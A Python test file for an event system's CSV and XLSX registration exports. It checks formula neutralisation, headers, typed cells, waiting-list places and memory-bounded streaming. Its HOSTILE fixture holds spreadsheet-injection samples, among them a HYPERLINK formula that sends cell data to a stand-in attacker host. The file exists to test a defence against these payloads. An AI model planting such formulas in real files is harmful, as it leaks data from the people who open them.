"""Registration exports: CSV and XLSX contents, formula neutralisation, headers, and a
100,000-row export that stays within a small memory bound while streaming."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import gc
import io
import json
import shutil
import sqlite3
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import openpyxl  # type: ignore[import-untyped]  # no stubs installed
import psutil  # type: ignore[import-untyped]  # no stubs installed
import pytest
from sqlalchemy import insert

from events.audit.service import Actor
from events.catalog.models import Event
from events.clock import FrozenClock
from events.db import Database, unit_of_work
from events.organiser import exports
from events.organiser.models import Organiser
from events.registration import service
from events.registration.models import Registration, RegistrationStatus
from tests.factories import TEST_SIGNER, Factory, register
from tests.organiser.helpers import give_event
from tests.registration.helpers import registrations

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(A1:A9)",
    "tab": "\tx",
    "cr": "\rx",
}


def _row(event_id: int, now: dt.datetime, n: int, **fields: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "event_id": event_id,
        "name": f"Person {n}",
        "email": f"person{n}@example.org",
        "membership_number": "",
        "role": "",
        "setting": "",
        "access_requirements": [],
        "access_details": "",
        "consents": ["privacy"],
        "status": RegistrationStatus.confirmed,
        "waiting_list_number": None,
        "resend_count": 0,
        "attended": False,
        "created_at": now,
        "updated_at": now,
        "confirmed_at": now,
    }
    values.update(fields)
    return values


async def _hostile_event(
    make: Factory, database: Database, organiser: Organiser, clock: FrozenClock
) -> Event:
    """An event whose registrations carry formula-looking values (written straight to the
    table, as an older import or another tool might have: the form would clean some)."""
    event = await make.event(capacity=None)
    await give_event(database, event, organiser)
    now = clock.now()
    async with unit_of_work(database.writer) as session:
        await session.execute(
            insert(Registration),
            [
                _row(
                    event.id,
                    now,
                    i,
                    name=value,
                    access_details=value,
                    membership_number=value[:20],
                )
                for i, value in enumerate(HOSTILE.values())
            ],
        )
    await register(
        make,
        event,
        "zoe@example.org",
        name="Zoë Ünïcode",
        access_requirements=["bsl", "other"],
        access_details="Needs a seat near the front",
        consents=["privacy", "access_data"],
    )
    return event


def test_neutralise_prefixes_every_formula_start_and_nothing_else() -> None:
    for value in HOSTILE.values():
        assert exports.neutralise(value) == "'" + value
    for safe in ("Ann", "", "x=1", "O'Neil", "1 + 1", "name@example.org"):
        assert exports.neutralise(safe) == safe


async def test_csv_export_is_utf8_with_bom_neutralised_and_complete(
    make: Factory,
    database: Database,
    organiser: Organiser,
    clock: FrozenClock,
    console: httpx.AsyncClient,
) -> None:
    event = await _hostile_event(make, database, organiser, clock)
    response = await console.get(f"/organiser/events/{event.slug}/registrations.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"
    assert (
        response.headers["content-disposition"]
        == f'attachment; filename="{event.slug}-registrations.csv"'
    )
    assert response.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == exports.HEADER
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + v for v in HOSTILE.values()] + ["Zoë Ünïcode"]
    details = [r[9] for r in rows[1:]]
    assert details[:-1] == ["'" + v for v in HOSTILE.values()]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(exports.FORMULA_STARTS), cell
    zoe = rows[-1]
    assert zoe[2] == "zoe@example.org"
    assert zoe[8] == "British Sign Language interpreter; Something else"
    assert zoe[9] == "Needs a seat near the front"
    assert zoe[11] == "2026-03-02 10:00"  # Europe/London, GMT in early March


async def test_xlsx_export_opens_in_openpyxl_with_strings_never_formulas(
    make: Factory,
    database: Database,
    organiser: Organiser,
    clock: FrozenClock,
    console: httpx.AsyncClient,
) -> None:
    event = await _hostile_event(make, database, organiser, clock)
    response = await console.get(f"/organiser/events/{event.slug}/registrations.xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["cache-control"] == "no-store"
    assert f'filename="{event.slug}-registrations.xlsx"' in response.headers["content-disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book["Registrations"]
    rows = list(sheet.iter_rows())
    assert tuple(c.value for c in rows[0]) == exports.HEADER
    # xlsxwriter escapes a control character as "_x000D_" (Excel shows it as the character).
    names = [str(r[1].value).replace("_x000D_", "\r") for r in rows[1:]]
    assert names == ["'" + v for v in HOSTILE.values()] + ["Zoë Ünïcode"]
    for row in rows[1:]:
        for cell in row:
            assert cell.data_type in {"s", "n", "d"}, (cell.coordinate, cell.data_type)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(exports.FORMULA_STARTS)


async def test_xlsx_stores_numbers_as_numbers_and_times_as_excel_dates(
    make: Factory,
    database: Database,
    organiser: Organiser,
    clock: FrozenClock,
    console: httpx.AsyncClient,
) -> None:
    event = await make.event(capacity=1, waiting_list_enabled=True)
    await give_event(database, event, organiser)
    await register(make, event, "in@example.org")
    await register(make, event, "wait@example.org")
    response = await console.get(f"/organiser/events/{event.slug}/registrations.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Registrations"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    confirmed, waiting = (dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2))
    ids = sorted(r.id for r in await registrations(database, event.id))
    assert confirmed["Registration ID"].value == ids[0]
    assert confirmed["Registration ID"].data_type == "n"
    assert isinstance(confirmed["Registration ID"].value, int)
    assert waiting["Place on waiting list"].value == 1
    assert waiting["Place on waiting list"].data_type == "n"
    assert confirmed["Place on waiting list"].value is None
    registered = confirmed["Registered at"]
    assert registered.is_date and registered.data_type == "d"
    assert registered.number_format == "yyyy-mm-dd hh:mm"
    # The event's own zone (GMT in early March), as a real date a spreadsheet can sort.
    assert registered.value == dt.datetime(2026, 3, 2, 10, 0)
    assert confirmed["Cancelled at"].value is None
    assert confirmed["Membership number"].data_type == "s"


async def test_exports_show_each_waiting_persons_place_in_line_now(
    make: Factory,
    database: Database,
    organiser: Organiser,
    clock: FrozenClock,
    console: httpx.AsyncClient,
) -> None:
    """Ann has the place; Bob, Cy, Di and Ed wait (numbers 1 to 4). Ann cancels: Bob is
    promoted. Di cancels. Then Cy is next in line (1) and Ed after (2), and Bob, now
    confirmed, has no place in line, whatever numbers they were given on joining."""
    event = await make.event(capacity=1, waiting_list_enabled=True)
    await give_event(database, event, organiser)
    for name in ("ann", "bob", "cy", "di", "ed"):
        await register(make, event, f"{name}@example.org", name=name.capitalize())
    for name in ("ann", "di"):
        (person,) = [
            r for r in await registrations(database, event.id) if r.email == f"{name}@example.org"
        ]
        async with unit_of_work(database.writer) as session:
            await service.cancel_by_organiser(
                session,
                clock,
                event=event,
                registration_id=person.id,
                actor=Actor.of(organiser),
                signer=TEST_SIGNER,
            )
    expected = {
        "Ann": ("cancelled", ""),
        "Bob": ("confirmed", "1"),
        "Cy": ("waitlisted", "2"),
        "Di": ("cancelled", "3"),
        "Ed": ("waitlisted", "4"),
    }
    assert {
        r.name: (r.status.value, str(r.waiting_list_number or ""))
        for r in await registrations(database, event.id)
    } == expected  # the stored numbers: what the export used to show
    response = await console.get(f"/organiser/events/{event.slug}/registrations.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    shown = {r["Name"]: (r["Status"], r["Place on waiting list"]) for r in rows}
    assert shown == {
        "Ann": ("cancelled", ""),
        "Bob": ("confirmed", ""),
        "Cy": ("waitlisted", "1"),
        "Di": ("cancelled", ""),
        "Ed": ("waitlisted", "2"),
    }
    # Page by page (one row per page), the places are still counted over the whole list.
    chunks = [c async for c in exports.csv_stream(database.reader, event, page=1)]
    paged = list(csv.DictReader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert [r["Place on waiting list"] for r in paged] == [r["Place on waiting list"] for r in rows]
    xlsx = await console.get(f"/organiser/events/{event.slug}/registrations.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content))["Registrations"]
    places = {row[1].value: row[4].value for row in sheet.iter_rows(min_row=2)}
    assert places == {"Ann": None, "Bob": None, "Cy": 1, "Di": None, "Ed": 2}


async def test_exports_leave_out_other_events_and_erased_people(
    make: Factory, database: Database, clock: FrozenClock
) -> None:
    event = await make.event()
    other = await make.event()
    await register(make, event, "kept@example.org")
    await register(make, other, "other@example.org")
    now = clock.now()
    async with unit_of_work(database.writer) as session:
        await session.execute(
            insert(Registration),
            [_row(event.id, now, 1, email="gone@example.org", erased_at=now)],
        )
    chunks = [c async for c in exports.csv_stream(database.reader, event, page=1)]
    text = b"".join(chunks).decode("utf-8-sig")
    assert "kept@example.org" in text
    assert "other@example.org" not in text and "gone@example.org" not in text


# A large event (SQLite only: the point is the app's memory, not the database's) -----------
# 20,000 rows: a 3.4 MB CSV. Streamed a page at a time, the process grows by under 2 MB
# (``bench/export.py --rows 100000`` shows the same at 100,000 rows). Loading every row at
# once (``page=ROWS + 1``) grows it by 41 MB for the CSV and 17 MB for the XLSX: both fail.

ROWS = 20_000
LIMIT = 10 * 1024 * 1024


@pytest.fixture
def big_path(tmp_path: Path) -> Path:
    return tmp_path / "big_test.sqlite3"


@pytest.fixture
async def big_database(sqlite_template: Path, big_path: Path) -> AsyncIterator[Database]:
    path = big_path
    shutil.copyfile(sqlite_template, path)
    database = Database.from_url(f"sqlite:///{path}")
    try:
        yield database
    finally:
        await database.dispose()


def _sql(value: Any, now: str) -> Any:
    if isinstance(value, list):
        return json.dumps(value)
    return now if isinstance(value, dt.datetime) else value


async def _big_event(database: Database, clock: FrozenClock, path: Path) -> Event:
    """An event with ``ROWS`` registrations, inserted with the standard library's sqlite3
    from a generator: fast, and it leaves no rows behind in this process's memory."""
    make = Factory(database, clock)
    event = await make.event(capacity=None)
    now = clock.now().isoformat(sep=" ")
    columns = list(_row(event.id, clock.now(), 0))
    with sqlite3.connect(path) as connection:
        connection.executemany(
            f"INSERT INTO registrations ({', '.join(columns)}) "
            f"VALUES ({', '.join('?' for _ in columns)})",
            (
                tuple(
                    json.dumps(v)
                    if isinstance(v, list)
                    else now
                    if isinstance(v, dt.datetime)
                    else v
                    for v in _row(
                        event.id,
                        clock.now(),
                        n,
                        name=f"Person {n} with a reasonably long name",
                        access_details="Needs captions and a quiet space near the door",
                        status="confirmed",
                    ).values()
                )
                for n in range(ROWS)
            ),
        )
    return event


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_a_large_export_streams_within_a_small_memory_bound(
    big_database: Database, big_path: Path, clock: FrozenClock, kind: str
) -> None:
    event = await _big_event(big_database, clock, big_path)
    gc.collect()
    stream = (exports.csv_stream if kind == "csv" else exports.xlsx_stream)(
        big_database.reader, event
    )
    size = 0
    lines = 0
    largest_chunk = 0
    first: bytes = b""
    process = psutil.Process()
    # Resident memory, sampled after every chunk: tracemalloc would be exact but makes the
    # export several times slower. The rows were inserted without passing through Python
    # objects that stay alive, so growth from here is the export's own.
    baseline = peak_rss = process.memory_info().rss
    started = time.monotonic()
    async for chunk in stream:
        # The whole file is megabytes; each chunk is one page's worth (or 64 KB).
        size += len(chunk)
        lines += chunk.count(b"\r\n")
        largest_chunk = max(largest_chunk, len(chunk))
        if not first:
            first = chunk
        peak_rss = max(peak_rss, process.memory_info().rss)
    peak = peak_rss - baseline
    elapsed = time.monotonic() - started
    assert peak < LIMIT, f"memory grew by {peak / 1e6:.1f} MB"
    assert largest_chunk < 1024 * 1024
    if kind == "csv":
        assert first.startswith(codecs.BOM_UTF8)
        assert size > 3 * 1024 * 1024  # the file itself is far larger than any chunk
        assert lines == ROWS + 1
    else:
        assert first.startswith(b"PK")  # a zip container
    print(f"{kind}: {size / 1e6:.1f} MB in {elapsed:.1f}s, peak {peak / 1e6:.1f} MB")
